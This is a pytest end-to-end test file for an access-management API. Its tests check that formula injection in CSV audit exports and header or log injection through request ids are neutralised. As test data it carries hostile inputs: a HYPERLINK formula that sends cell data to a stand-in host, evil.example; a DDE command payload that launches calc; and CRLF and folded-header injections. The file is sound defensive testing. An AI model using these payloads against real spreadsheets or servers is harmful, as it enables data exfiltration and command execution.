"""What a client chooses and the ledger keeps is made harmless: CSV formulas, request ids.

A reason, a display name or a request id is text an attacker picks; it is stored for ever in
the log and the audit trail, and read later by people — in a spreadsheet, in a log viewer.
"""

from __future__ import annotations

import csv
import io
import logging
import re
import socket
from typing import Any

import pytest

from mandate.projections.history.access_review import logged_events
from tests.e2e.conftest import Headers, MandateClient

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GENERATED = re.compile(r"[0-9a-f]{32}")


def _records(api: MandateClient, account: str, root: Headers, **params: str) -> list[Any]:
    page = api.get(f"/v1/accounts/{account}/audit-events", params=params, headers=root)
    assert page.status_code == 200, page.text
    items: list[Any] = page.json()["items"]
    return items


def _stored_events_text(api: MandateClient) -> str:
    """Every stored event's attributes, as text, for scanning."""
    head = api.log_head()
    return "\n".join(repr(vars(event)) for _, event in logged_events(api.runtime.ledger, head))


def test_a_formula_in_a_reason_is_neutralised_in_the_csv_export(api: MandateClient) -> None:
    """A reason crafted as a formula comes out of the CSV export as quoted text, never a formula."""
    account, root = api.open_account()
    api.create_user(account, root, "ana")
    created = api.post(
        f"/v1/accounts/{account}/roles",
        json={
            "role_name": "ops",
            "assume_role_policy_document": {
                "Version": "1",
                "Statement": [
                    {
                        "Effect": "Allow",
                        "Action": "sts:AssumeRole",
                        "Principal": {"RAM": [f"acs:ram::{account}:root"]},
                    }
                ],
            },
        },
        headers=root,
    )
    assert created.status_code == 201, created.text
    revoked = api.post(
        f"/v1/accounts/{account}/roles/ops/revoke-sessions",
        json={"reason": FORMULA},
        headers={**root, "X-Request-Id": "-1-cmd"},
    )
    assert revoked.status_code == 200, revoked.text
    renamed = api.patch(
        f"/v1/accounts/{account}/users/ana",
        json={"new_display_name": "@SUM(1+1)"},
        headers=root,
    )
    assert renamed.status_code == 200, renamed.text

    exported = api.get(
        f"/v1/accounts/{account}/audit-events/export", params={"format": "csv"}, headers=root
    )
    assert exported.status_code == 200, exported.text
    rows = list(csv.reader(io.StringIO(exported.text)))
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    header, *records = rows
    by_column = [dict(zip(header, row, strict=True)) for row in records]
    revocation = next(r for r in by_column if r["event_type"] == "RoleSessionsRevoked")
    assert revocation["reason"] == "'" + FORMULA
    assert revocation["request_id"] == "'-1-cmd"
    # Every record cell is quoted, so a quote, comma or newline inside one cannot start another.
    assert all(line.startswith('"') for line in exported.text.splitlines()[1:])
    # The stored record and the JSON reads keep the reason exactly as given.
    listed = _records(api, account, root, type="RoleSessionsRevoked")
    assert [r["reason"] for r in listed] == [FORMULA]


@pytest.mark.parametrize(
    "hostile",
    [
        pytest.param(b"a" * 10_240, id="10 KB"),
        pytest.param(b"x" * 129, id="one past the limit"),
        pytest.param("r\u00e9q-\u202e\U0001f600".encode(), id="unicode"),
        pytest.param(b"req%0D%0AInjected: yes", id="percent-encoded CRLF"),
        pytest.param(b"req\tid", id="tab"),
        pytest.param(b"=cmd|' /C calc'!A0", id="formula"),
        pytest.param(b"", id="empty"),
    ],
)
def test_a_hostile_request_id_is_replaced_and_never_stored_or_logged(
    api: MandateClient, caplog: pytest.LogCaptureFixture, hostile: bytes
) -> None:
    """A request id too long or outside [A-Za-z0-9._:-] is replaced by a generated one, echoed."""
    account, root = api.open_account()
    with caplog.at_level(logging.DEBUG):
        created = api.post(
            f"/v1/accounts/{account}/users",
            json={"user_name": "ana"},
            headers={**root, "X-Request-Id": hostile},  # type: ignore[dict-item]
        )
    assert created.status_code == 201, created.text
    used = created.headers["x-request-id"]
    assert GENERATED.fullmatch(used), used
    [record] = _records(api, account, root, type="UserCreated")
    assert record["request_id"] == used
    if hostile:
        marker = hostile.decode("utf-8")
        assert marker not in _stored_events_text(api)
        assert marker not in caplog.text


def test_a_plain_request_id_is_kept_echoed_and_recorded(api: MandateClient) -> None:
    """An id of up to 128 safe characters is the one the events record, and the one echoed."""
    account, root = api.open_account()
    given = "trace-7f3a:span.01_" + "z" * (128 - 19)
    created = api.post(
        f"/v1/accounts/{account}/users",
        json={"user_name": "ana"},
        headers={**root, "X-Request-Id": given},
    )
    assert created.status_code == 201, created.text
    assert created.headers["x-request-id"] == given
    [record] = _records(api, account, root, type="UserCreated")
    assert record["request_id"] == given
    # Without one, or on a refusal, the response still names the id it went by.
    listed = api.get(f"/v1/accounts/{account}/users", headers=root)
    assert GENERATED.fullmatch(listed.headers["x-request-id"])
    refused = api.get(f"/v1/accounts/{account}/users", headers={"X-Request-Id": "not ok!"})
    assert refused.status_code == 401
    assert GENERATED.fullmatch(refused.headers["x-request-id"])


def test_a_request_id_with_a_line_break_never_reaches_the_log(
    api: MandateClient, caplog: pytest.LogCaptureFixture
) -> None:
    """A header folded over two lines is refused by the server or replaced, never stored."""
    account, root = api.open_account()
    host, port = api.base_url.host, api.base_url.port
    assert port is not None
    body = b'{"user_name": "ana"}'
    request = (
        f"POST /v1/accounts/{account}/users HTTP/1.1\r\nHost: {host}\r\n"
        f"Authorization: {root['Authorization']}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\nX-Request-Id: first\r\n Injected-Line\r\n"
        "Connection: close\r\n\r\n"
    ).encode() + body
    with caplog.at_level(logging.DEBUG), socket.create_connection((host, port), timeout=10) as s:
        s.sendall(request)
        answer = b""
        while chunk := s.recv(65536):
            answer += chunk
    status = int(answer.split(b" ", 2)[1])
    assert status in (201, 400), answer[:200]
    assert b"Injected-Line" not in answer
    assert "Injected-Line" not in _stored_events_text(api)
    assert "Injected-Line" not in caplog.text
